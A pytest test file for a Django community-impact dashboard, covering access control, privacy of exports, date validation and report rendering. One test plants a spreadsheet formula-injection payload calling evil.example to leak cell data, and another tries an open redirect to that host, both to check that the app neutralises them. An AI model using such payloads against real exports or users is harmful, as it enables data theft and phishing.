import csv
import io
import re

import pytest
from django.conf import settings
from django.utils import translation
from openpyxl import load_workbook
from pypdf import PdfReader

from interra.accounts.models import User
from interra.impact.models import ReportHighlight
from tests.conftest import sign_in_staff
from tests.factories import coordinator

from .conftest import YEAR
from .expected import expected_figures, year_period

pytestmark = pytest.mark.django_db
QUERY = {"city": "liege", "start": f"{YEAR}-01-01", "end": f"{YEAR + 1}-01-01"}


def same(page_value: str, expected) -> bool:
    """The page's figure (French number format, "&lt; 5" escaped) equals ``expected``."""
    page_value = page_value.replace("&lt;", "<").strip()
    if expected is None:
        return page_value == "—"
    if expected == "< 5":
        return page_value == "< 5"
    return float(page_value.replace("\xa0", "").replace(",", ".")) == float(expected)


def page_figure(html: str, name: str) -> str:
    match = re.search(rf'data-figure="{name}"><th scope="row">[^<]*</th><td>([^<]*)</td>', html)
    assert match, name
    return match.group(1).replace("\xa0%", "").replace(" %", "")


def test_dashboard_shows_the_independently_counted_figures(coordinator_client, dataset, city,
                                                            django_assert_max_num_queries):
    with django_assert_max_num_queries(45):
        response = coordinator_client.get("/impact/", QUERY)
    assert response.status_code == 200
    html = response.content.decode()
    expected = expected_figures(city, year_period(YEAR))
    for name in ("workshops_held", "sessions_held", "hours", "people_reached", "visits",
                 "returning_participants", "new_ties", "lasting_ties", "feedback_average",
                 "no_show_rate", "waitlisted_seats", "waitlist_pressure", "proposals_received",
                 "proposals_accepted", "open_tasks", "overdue_tasks"):
        assert same(page_figure(html, name), expected[name]), (name, expected[name])
    assert html.count("<svg") >= 4  # charts inline, each followed by its table
    assert html.count("<caption>") >= 5 and 'scope="row"' in html
    # No person's name or contact, except the coordinator's own name offered as signatory.
    for person in User.objects.exclude(pk=coordinator_client.person.pk):
        assert person.display_name not in html and person.email not in html


def test_default_period_is_this_year_and_query_count_is_bounded(
        coordinator_client, dataset, django_assert_max_num_queries):
    with django_assert_max_num_queries(45):
        response = coordinator_client.get("/impact/")
    assert response.status_code == 200


def test_another_citys_coordinator_sees_nothing_of_this_city(client, dataset, other_city):
    sign_in_staff(client, coordinator(other_city))
    assert client.get("/impact/", QUERY).status_code == 404
    assert client.get("/impact/export.csv", QUERY).status_code == 404
    assert client.get("/impact/report.pdf", QUERY).status_code == 404
    assert client.get(f"/impact/highlights/liege/{YEAR}/").status_code == 404
    # Their own dashboard counts only their city, where nothing happened.
    response = client.get("/impact/", {"start": f"{YEAR}-01-01", "end": f"{YEAR + 1}-01-01"})
    assert response.status_code == 200
    assert page_figure(response.content.decode(), "sessions_held") == "0"


def test_anonymous_and_participants_are_refused(client, dataset):
    assert client.get("/impact/").status_code == 302


def test_bad_period_changes_nothing_and_says_so(coordinator_client, dataset):
    response = coordinator_client.get("/impact/", {"start": "2025-05-01", "end": "2025-01-01"})
    assert response.status_code == 400
    assert coordinator_client.get("/impact/export.csv", {"start": "nope"}).status_code == 400


def _no_personal_data(text: str):
    for person in User.objects.all():
        assert person.display_name not in text
        if person.email:
            assert person.email not in text
    assert "@" not in text and "Walk In" not in text


def test_csv_and_xlsx_hold_every_aggregate_and_no_person(coordinator_client, dataset, city):
    expected = expected_figures(city, year_period(YEAR))
    response = coordinator_client.get("/impact/export.csv", QUERY)
    assert response.status_code == 200
    # Belgian Excel: a byte order mark for the accents, ";" between cells.
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    _no_personal_data(text)
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert all(len(row) >= 2 for row in rows)
    values = [row[2] for row in rows[3:]]
    assert str(expected["sessions_held"]) in values
    assert str(expected["people_reached"]) in values
    assert str(expected["new_ties"]) in values
    assert len(rows) > 30

    response = coordinator_client.get("/impact/export.xlsx", QUERY)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row for row in sheet.iter_rows(min_row=4, values_only=True)]
    assert len(cells) == len(rows) - 3
    assert expected["sessions_held"] in [row[2] for row in cells]
    _no_personal_data(" ".join(str(c) for row in sheet.iter_rows(values_only=True) for c in row))


def test_yearly_report_pdf_has_the_key_figures_and_highlights(coordinator_client, dataset,
                                                              city):
    ReportHighlight.objects.create(city=city, year=YEAR,
                                   highlights="Quarante ateliers et une fete de quartier.")
    expected = expected_figures(city, year_period(YEAR))
    response = coordinator_client.get("/impact/report.pdf", QUERY)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    text = " ".join(page.extract_text() for page in reader.pages)
    for name in ("sessions_held", "workshops_held", "people_reached", "visits", "new_ties"):
        assert re.search(rf"\b{expected[name]}\b", text), name
    assert "Quarante ateliers" in text
    assert "Maison Centre" in text  # partnerships: organisations, never their contacts
    _no_personal_data(text)


def test_coordinator_writes_the_highlights(coordinator_client, city):
    url = f"/impact/highlights/liege/{YEAR}/"
    assert coordinator_client.get(url).status_code == 200
    response = coordinator_client.post(url, {"highlights": " Un bel été. ", "outlook": "Namur"})
    assert response.status_code == 302
    highlight = ReportHighlight.objects.get(city=city, year=YEAR)
    assert highlight.highlights == "Un bel été." and highlight.updated_by is not None
    coordinator_client.post(url, {"highlights": "Autre"})
    assert ReportHighlight.objects.filter(city=city, year=YEAR).count() == 1


def test_navigation_offers_impact_to_coordinators():
    from interra.core.navigation import items_for

    assert "impact:dashboard" in [i["url_name"] for i in items_for({"coordinator"})]
    assert "impact:dashboard" not in [i["url_name"] for i in items_for({"participant"})]


def test_export_cells_that_look_like_formulas_stay_text(coordinator_client, dataset, city):
    """A neighbourhood (free text) or a city name typed as a formula is never run."""
    from interra.venues.models import Venue

    trap = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    Venue.objects.filter(city=city).update(neighbourhood=trap)
    city.name = "@SUM(1+1)"
    city.save(update_fields=["name"])
    text = coordinator_client.get("/impact/export.csv", QUERY).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'@SUM(1+1)" in cells
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)

    response = coordinator_client.get("/impact/export.xlsx", QUERY)
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not any(cell.data_type == "f" for cell in values)
    texts = [cell.value for cell in values if isinstance(cell.value, str)]
    assert any(text.startswith("'=HYPERLINK(") for text in texts)
    assert not any(text[:1] in ("=", "+", "@", "-") for text in texts)


@pytest.mark.parametrize("start", ["0001-01-01", "9999-12-31", "10000-01-01", "2025-13-01",
                                   "2025-02-30", "1-1", "9999-12", "nope"])
@pytest.mark.parametrize("url", ["/impact/", "/impact/export.csv", "/impact/export.xlsx",
                                 "/impact/report.pdf"])
def test_extreme_or_malformed_dates_answer_400_with_a_message(coordinator_client, city, url,
                                                              start):
    # The coordinator's own language would win over the header: choose English, as the
    # language switcher does.
    coordinator_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    with translation.override("en"):
        response = coordinator_client.get(url, {"start": start}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    text = response.content.decode()
    assert "Choose a month between 2000 and 2100" in text or "Enter a month as" in text


def test_end_of_the_year_9999_is_refused(coordinator_client, city):
    response = coordinator_client.get("/impact/export.csv",
                                      {"start": "2025-01-01", "end": "9999-12-31"})
    assert response.status_code == 400


def test_periods_are_whole_months_whatever_is_typed(coordinator_client, dataset):
    """Two periods one day apart are the same whole months: identical exports."""
    first = coordinator_client.get("/impact/export.csv", {
        "city": "liege", "start": f"{YEAR}-02-01", "end": f"{YEAR}-04-01"})
    second = coordinator_client.get("/impact/export.csv", {
        "city": "liege", "start": f"{YEAR}-02-02", "end": f"{YEAR}-04-01"})
    assert first.status_code == second.status_code == 200
    assert first.content == second.content
    months = coordinator_client.get("/impact/export.csv", {
        "city": "liege", "start": f"{YEAR}-02", "end": f"{YEAR}-03"})
    assert months.content == first.content
    assert f"{YEAR}-02-01".encode() in first.content
    assert f"{YEAR}-03-31".encode() in first.content


def _pdf_text(response) -> str:
    reader = PdfReader(io.BytesIO(response.content))
    return " ".join(page.extract_text() for page in reader.pages)


def test_report_texts_are_written_on_the_impact_page_and_signed_in_the_pdf(
        coordinator_client, dataset, city, settings):
    settings.ORGANISATION_ADDRESS = "Rue de l'Exemple 1, 4000 Liège"
    page = coordinator_client.get("/impact/", QUERY).content.decode()
    assert f'action="/impact/highlights/liege/{YEAR}/"' in page
    assert 'id="id_liege_outlook"' in page

    # Nothing written yet: no empty "Perspectives" section in the report.
    empty = _pdf_text(coordinator_client.get("/impact/report.pdf", QUERY))
    assert "Perspectives" not in empty

    back = f"/impact/?start={YEAR}-01&end={YEAR}-12&city=liege"
    response = coordinator_client.post(f"/impact/highlights/liege/{YEAR}/", {
        "highlights": "Quarante ateliers.", "outlook": "Ouvrir une antenne à Seraing.",
        "signatory_name": "Julie Coordinatrice", "signatory_role": "Coordinatrice",
        "signed_at_place": "Liège", "next": back,
    })
    assert response.status_code == 302 and response["Location"].startswith(back)
    saved = coordinator_client.get(response["Location"]).content.decode()
    assert "Ouvrir une antenne à Seraing." in saved

    text = _pdf_text(coordinator_client.get("/impact/report.pdf", QUERY))
    assert "Perspectives" in text and "Ouvrir une antenne à Seraing." in text
    assert "Julie Coordinatrice" in text and "Coordinatrice" in text
    assert "Interra ASBL" in text and "4000 Liège" in text
    assert re.search(r"Liège, \w+ \d{1,2} \w+ \d{4}", text)  # place and date, in French
    # What "< 5" means is said in the report itself (English until the catalogue has it).
    assert "0 et 4" in text or "0 and 4" in text


def test_redirect_after_saving_stays_on_the_impact_pages(coordinator_client, city):
    response = coordinator_client.post(f"/impact/highlights/liege/{YEAR}/", {
        "highlights": "x", "next": "https://evil.example/impact/?a=1"})
    assert response.status_code == 302
    assert response["Location"].startswith(f"/impact/highlights/liege/{YEAR}/")


def test_charts_are_drawn_for_a_desktop_column_and_for_a_phone(coordinator_client, dataset):
    html = coordinator_client.get("/impact/", QUERY).content.decode()
    assert html.count('class="chart-wide"') == 4 and html.count('class="chart-narrow"') == 4
    for variant, least in (("wide", 16), ("narrow", 13)):
        for svg in re.findall(rf'<svg [^>]*class="chart-{variant}".*?</svg>', html, re.S):
            sizes = [float(size) for size in re.findall(r"font-size:\s*([\d.]+)px", svg)]
            assert sizes and min(sizes) >= least, (variant, min(sizes))
    # Months without a session are in the chart and the table, at zero.
    assert html.count(f"<tr><th scope=\"row\">{YEAR}-") == 12
